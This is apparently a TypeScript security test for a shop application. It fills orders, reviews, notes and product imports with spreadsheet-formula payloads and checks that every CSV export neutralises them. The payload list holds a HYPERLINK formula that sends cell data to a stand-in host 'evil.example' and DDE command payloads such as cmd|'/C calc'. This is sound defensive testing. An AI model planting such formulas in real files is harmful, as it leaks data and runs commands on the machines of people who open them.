import { parse } from 'csv-parse/sync'
import type { Case, Environment, Report } from './case.ts'
import { newProduct, newReview } from './things.ts'

const formulas: readonly string[] = [
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  "=cmd|'/C calc'!A0",
  '+1+cmd|x!A0',
  '-2+3+cmd|x!A0',
  '@SUM(1+1)*cmd|x!A0',
  '＝1+1',
  '＠SUM(1)',
  '="a",=1+1',
  '=1\n=2',
]

const exports_: readonly string[] = [
  '/orders/export.csv',
  '/manage/orders/export.csv',
  '/manage/orders/lines/export.csv',
  '/manage/products/export.csv',
  '/manage/users/export.csv',
  '/manage/audit/export.csv',
  '/manage/reviews/export.csv',
]

/** Every text that an export contains, as a formula. */
async function fillWithFormulas(environment: Environment): Promise<void> {
  const { send, admin } = environment
  for (const formula of formulas) {
    // Some formulas are refused as a name.
    const person = await environment.newCaller(formula).catch(() => environment.newCaller())
    const product = await newProduct(environment, {
      name: `${formula} ${crypto.randomUUID()}`,
      sku: `=${crypto.randomUUID()}`,
    })
    const texts = { address: formula, phone: formula.slice(0, 50), others: formula }
    const order = await send('/api/order', {
      as: person,
      body: { productId: product._id, newOrderQty: 1, ...texts },
    })
    const { _id } = order.json<{ _id: string }>()
    await send(`/api/order/${_id}/notes`, { as: admin, body: { text: formula, isInternal: true } })
    await newReview(environment, person, { reviewText: formula })
    const email = `case-${crypto.randomUUID()}@test.example`
    await send('/api/users/invitations', { as: admin, body: { email, name: formula, role: 'customer' } })
  }
}

/** What a spreadsheet would run as a formula. A number with a sign is not one. */
function isRun(cell: string): boolean {
  return /^[=+\-@\t\r＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)
}

function judgeTable(name: string, text: string, { expect }: Report): void {
  expect(text.includes('cmd|') || text.includes('HYPERLINK'), `${name} holds no formula: nothing is proved`)
  const rows: string[][] = parse(text, { bom: true })
  for (const cell of rows.flat()) expect(!isRun(cell), `${name} has the cell ${JSON.stringify(cell.slice(0, 60))}`)
}

async function exportNoFormula(environment: Environment, report: Report): Promise<void> {
  const { send, admin } = environment
  await fillWithFormulas(environment)
  for (const path of exports_) {
    const answer = await send(`/api${path}`, { as: admin })
    report.expect(answer.status === 200, `${path} answers ${answer.status}`)
    report.expect(answer.headers.get('content-disposition')?.startsWith('attachment') ?? false, `${path} is shown`)
    judgeTable(path, answer.text, report)
  }
  const cells = formulas.map((formula) => `"${formula.replaceAll('"', '""')}"`)
  const table = `sku,name,unitprice\n${cells.map((cell) => `${cell},${cell},${cell}`).join('\n')}\n`
  const headers = { 'content-type': 'text/csv' }
  const added = await send('/api/imports?name=formulas.csv', { method: 'POST', as: admin, body: table, headers })
  const { _id } = added.json<{ _id: string }>()
  const mapping = { sku: 0, name: 1, unitprice: 2, description: 1, image: 1, minorder: 2, available: 2 }
  await send(`/api/imports/${_id}/check`, { as: admin, body: { mapping } })
  let state = 'checking'
  for (let tries = 0; state !== 'checked' && tries < 100; tries++) {
    state = (await send(`/api/imports/${_id}`, { as: admin })).json<{ state: string }>().state
    if (state !== 'checked') await new Promise((resolve) => setTimeout(resolve, 100))
  }
  const errors = await send(`/api/imports/${_id}/faults.csv`, { as: admin })
  judgeTable('/imports/{id}/faults.csv', errors.text, report)
}

export const formulaCases: readonly Case[] = [
  { name: 'formulas in every export', requirement: 'V1.2', run: exportNoFormula },
]
